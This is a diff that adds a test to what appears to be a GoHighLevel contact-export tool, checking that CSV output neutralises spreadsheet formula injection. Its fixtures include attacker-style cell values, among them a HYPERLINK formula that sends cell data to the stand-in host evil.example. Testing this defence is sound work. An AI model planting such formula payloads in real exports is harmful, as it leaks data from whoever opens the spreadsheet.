@@ -136,6 +136,54 @@ def test_csv_export_has_named_columns(conn_id: str, export_sandbox: SandboxServe
     assert "customFieldsByKey.lead_score" in header
 
 
+#: Fields a public form can fill, as an attacker would: each starts a spreadsheet formula.
+FORMULAS = {
+    "firstName": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "lastName": "+SUM(1,2)",
+    "companyName": "@cmd",
+    "city": "-1+2",
+    "address1": "\t=1",
+}
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_unless_turned_off(
+    conn_id: str, export_sandbox: SandboxServer, tmp_path: Path
+) -> None:
+    """A contact whose fields start formulas: the CSV gets OWASP's leading ``'`` on each, a phone (``+...``) stays
+    a number; with ``neutralise_csv_formulas=False`` and in JSON Lines every value is as GHL has it."""
+    import csv
+
+    created = requests.post(
+        f"{export_sandbox.base_url}/contacts/",
+        json={
+            **FORMULAS,
+            "email": "formula@example.com",
+            "phone": "+15559876543",
+            "tags": ["=1+1", "vip"],
+            "locationId": export_sandbox.location_ids[0],
+        },
+        headers=export_sandbox.headers(0),
+        timeout=10,
+    )
+    assert created.status_code in (200, 201), created.text
+    contact_id = created.json()["contact"]["id"]
+
+    def row(out: Path, **kwargs: Any) -> dict[str, str]:
+        _operator(conn_id, out, file_format="csv", records_per_file=10_000, **kwargs).execute(context={})
+        [found] = [r for r in csv.DictReader((out / "contacts-00001.csv").open()) if r["id"] == contact_id]
+        return found
+
+    safe = row(tmp_path / "safe")
+    assert {k: safe[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    assert safe["phone"] == "+15559876543" and safe["tags"] == "'=1+1|vip"
+    raw = row(tmp_path / "raw", neutralise_csv_formulas=False)
+    assert {k: raw[k] for k in FORMULAS} == FORMULAS and raw["tags"] == "=1+1|vip"
+    jsonl = tmp_path / "jsonl"
+    _operator(conn_id, jsonl).execute(context={})
+    [record] = [r for r in _exported(jsonl) if r["id"] == contact_id]
+    assert {k: record[k] for k in FORMULAS} == FORMULAS
+
+
 @pytest.mark.parametrize(
     ("kwargs", "error", "message"),
     [
